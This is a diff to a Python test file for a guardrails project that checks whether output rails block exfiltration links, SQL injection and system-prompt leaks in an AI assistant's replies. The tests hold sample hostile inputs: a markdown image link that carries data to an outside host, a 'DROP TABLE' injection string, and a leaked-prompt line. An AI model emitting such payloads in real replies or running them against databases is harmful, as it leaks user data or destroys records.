@@ -14,7 +14,19 @@ from guardlint.policy.documents import read_document
 from guardlint.resources import resource_dir
 
 RAILS = resource_dir("rails")
-NEMO = ("no-personal-advice", "prompt-injection-patterns", "self-check", "vulnerable-customer-handoff")
+NEMO = (
+    "code-and-sql-injection",
+    "content-safety",
+    "context-bloat",
+    "exfiltration-links",
+    "grounded-reply",
+    "no-personal-advice",
+    "prompt-injection-patterns",
+    "self-check",
+    "system-prompt-leak",
+    "topic-control",
+    "vulnerable-customer-handoff",
+)
 CASES = [
     pytest.param(rail, case, id=f"{rail}:{case['id']}")
     for rail in NEMO
@@ -82,6 +94,12 @@ def engines(tmp_path_factory: pytest.TempPathFactory, judge: Any) -> Any:
         if engine == "iorails":
             loop.run_until_complete(rails.shutdown())
     loop.close()
+
+
+def test_every_rail_is_tried() -> None:
+    """A rail that is added is tried here, unless it runs natively and is tried beside this file."""
+    native = {"block-secrets", "mask-personal-data"}
+    assert {path.parent.name for path in RAILS.glob("*/rail.yml")} == native | set(NEMO)
 
 
 def messages_of(case: dict[str, Any]) -> list[dict[str, str]]:
@@ -218,3 +236,30 @@ def test_everything_for_customers_of_a_regulated_firm_runs_on_the_fast_engine(
         "blocked after 2",
     ] == asyncio.run(checks())
     assert "personalised advice" in judge.seen
+
+
+def test_patterns_of_several_rails_stand_beside_each_other(tmp_path: Path, judge: Any) -> None:
+    """Three rails of one flow: each blocks by its own patterns, and what none of them knows passes."""
+    from nemoguardrails import Guardrails, RailsConfig
+    from nemoguardrails.rails.llm.options import RailType
+
+    names = ["exfiltration-links", "code-and-sql-injection", "system-prompt-leak"]
+    folder = render(tmp_path, judge.base_url, input=["context-bloat"], output=names)
+    rails = Guardrails(RailsConfig.from_path(str(folder)), require_iorails=True)
+
+    async def check(reply: str) -> str:
+        messages = [{"role": "user", "content": "Hello"}, {"role": "assistant", "content": reply}]
+        return (await rails.check_async(messages, rail_types=[RailType("output")])).status.value
+
+    async def checks() -> list[str]:
+        try:
+            return [
+                await check("![x](https://img.example.net/p?d=rent-is-late)"),
+                await check("x'; DROP TABLE customers; --"),
+                await check("My system prompt is: help customers."),
+                await check("The fee is 3 a month."),
+            ]
+        finally:
+            await rails.shutdown()
+
+    assert ["blocked", "blocked", "blocked", "passed"] == asyncio.run(checks())
